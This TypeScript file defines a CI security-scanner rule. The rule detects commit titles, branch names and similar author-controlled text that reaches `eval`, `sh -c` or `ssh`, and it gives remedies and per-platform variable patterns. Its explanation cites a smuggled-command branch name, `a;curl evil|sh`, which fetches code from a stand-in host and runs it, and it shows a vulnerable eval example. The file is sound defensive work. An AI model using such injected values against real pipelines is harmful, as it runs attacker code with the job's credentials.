// Text that the author of a change chooses, in a variable that a script hands to a second shell as code. Where the system
// itself pastes the text, `template-injection` says so.
import { gitlabRefs } from '../../server/engine/facts/ci/gitlab-subjects.ts';
import { evaluatedVariables } from '../../server/engine/facts/evaluated-variables.ts';
import { commandsOf } from '../../server/engine/facts/script-lines.ts';
import type { CiSystem, Workflow, WorkflowJob } from '../../server/engine/facts/workflow.ts';
import { defineRule } from '../../server/engine/rule.ts';
import { pastedByGroovy } from './through-variable.ts';

export const evaluatedVariable = defineRule({
  id: 'ci/evaluated-variable',
  meta: {
    title: 'Text of a change run as code',
    category: 'workflow',
    severity: 'high',
    confidence: 'high',
    frameworks: ['NHI8:2025', 'PR.PS-06'],
    peers: ['poutine injection'],
    fix: 'none',
    subsumes: ['ci/template-injection'],
    whyNoFix: 'How the text reaches the second shell as data, as an argument or on its input, depends on what the command does with it.',
    messages: {
      default:
        '`{command}` takes the text of `{name}` for code, and whoever proposes a change writes it: a command in it runs with what this job holds. Pass it as an argument of its own',
      remote:
        '`ssh` hands the text of `{name}` to a shell on the other machine, and whoever proposes a change writes it: a command in it runs there, as the account that deploys. Quote it for that shell (`printf %q`)',
    },
    docs: {
      what: 'The title, message, branch or author of a change, in a variable inside `eval`, `sh -c "…"` or `ssh host "…"`.',
      why: 'GitLab, Bitbucket and the others hand such text over as a variable, which is safe as long as one shell expands it. A second shell reads the result as a script: a branch called `a;curl evil|sh` is then two commands.',
      remedy:
        'Leave `eval` out, pass the text as an argument (`sh -c \'git checkout "$1"\' sh "$BRANCH"`), or quote it for the other shell.',
      bad: [
        {
          file: '.gitlab-ci.yml',
          text: 'review:\n  rules: [{ if: $CI_MERGE_REQUEST_IID }]\n  script:\n    - eval "notify --title «$CI_MERGE_REQUEST_TITLE»"\n',
        },
      ],
      good: [
        {
          file: '.gitlab-ci.yml',
          text: 'review:\n  rules: [{ if: $CI_MERGE_REQUEST_IID }]\n  script:\n    - notify --title "$CI_MERGE_REQUEST_TITLE"\n',
        },
      ],
      references: [
        'https://docs.gitlab.com/ci/variables/predefined_variables/',
        'https://support.atlassian.com/bitbucket-cloud/docs/variables-and-secrets/',
        'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html',
      ],
    },
  },
  on: {
    step(step, job, workflow, context) {
      const search = searches[workflow.system];
      if (!search || !job || (workflow.system === 'jenkins' && pastedByGroovy(step))) return;
      for (const line of commandsOf(step.lines)) {
        for (const { command, name, at } of search(line)) {
          if (workflow.system === 'buildkite' && line.text[at.span[0] - line.at.span[0] - 1] !== '$') continue;
          if (isBranch.test(name) && onNamedBranches(job, workflow, context.project.workspace.defaultBranch)) continue;
          context.report({
            at,
            message: command === 'ssh' ? 'remote' : 'default',
            data: { command, name },
            anchor: `${step.anchor}|${command}|${name}`,
          });
        }
      }
    },
  },
});

/** Variables with text of a change's author, from each system's list of variables, read in 2026-11. */
const searches: Partial<Record<CiSystem, ReturnType<typeof evaluatedVariables>>> = {
  gitlab: evaluatedVariables(
    'CI_COMMIT_(?:MESSAGE|TITLE|DESCRIPTION|BRANCH|REF_NAME|TAG|TAG_MESSAGE|AUTHOR)|CI_MERGE_REQUEST_(?:TITLE|DESCRIPTION|SOURCE_BRANCH_NAME|LABELS)|CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME',
  ),
  bitbucket: evaluatedVariables('BITBUCKET_(?:BRANCH|TAG)'),
  circleci: evaluatedVariables('CIRCLE_(?:BRANCH|TAG)'),
  'azure-pipelines': evaluatedVariables(
    'BUILD_SOURCEBRANCH(?:NAME)?|BUILD_SOURCEVERSIONMESSAGE|BUILD_SOURCEVERSIONAUTHOR|SYSTEM_PULLREQUEST_SOURCEBRANCH',
  ),
  drone: evaluatedVariables('DRONE_(?:COMMIT_MESSAGE|COMMIT_AUTHOR_NAME|SOURCE_BRANCH|PULL_REQUEST_TITLE|TAG)'),
  codebuild: evaluatedVariables('CODEBUILD_WEBHOOK_(?:HEAD_REF|TRIGGER)'),
  semaphore: evaluatedVariables('SEMAPHORE_GIT_(?:BRANCH|PR_BRANCH|PR_NAME|TAG_NAME)'),
  travis: evaluatedVariables('TRAVIS_(?:COMMIT_MESSAGE|BRANCH|PULL_REQUEST_BRANCH|TAG)'),
  appveyor: evaluatedVariables('APPVEYOR_(?:REPO_COMMIT_(?:MESSAGE|MESSAGE_EXTENDED|AUTHOR)|PULL_REQUEST_(?:TITLE|HEAD_REPO_BRANCH))'),
  codefresh: evaluatedVariables('CF_(?:COMMIT_MESSAGE|COMMIT_AUTHOR|BRANCH|PULL_REQUEST_(?:SOURCE|LABELS)|RELEASE_NAME)'),
  // Where Groovy, in double quotes, or the agent of Buildkite, behind a single sign, puts the text in, `template-injection` says so.
  jenkins: evaluatedVariables('CHANGE_(?:TITLE|BRANCH|AUTHOR_DISPLAY_NAME)|BRANCH_NAME|GIT_BRANCH|GIT_LOCAL_BRANCH|TAG_NAME'),
  buildkite: evaluatedVariables('BUILDKITE_(?:MESSAGE|BRANCH|TAG|BUILD_AUTHOR)'),
  woodpecker: evaluatedVariables('CI_(?:COMMIT_MESSAGE|COMMIT_SOURCE_BRANCH|COMMIT_AUTHOR|COMMIT_TAG)'),
};

const isBranch = /BRANCH|REF_NAME|_TAG$/;

/** True where the job runs on named branches alone, whose names nobody chooses. */
function onNamedBranches(job: WorkflowJob, workflow: Workflow, defaultBranch: string | undefined): boolean {
  if (workflow.system !== 'gitlab') return false;
  const refs = gitlabRefs(job, defaultBranch ?? 'main');
  return refs !== undefined && refs.every((ref) => !ref.includes('*'));
}
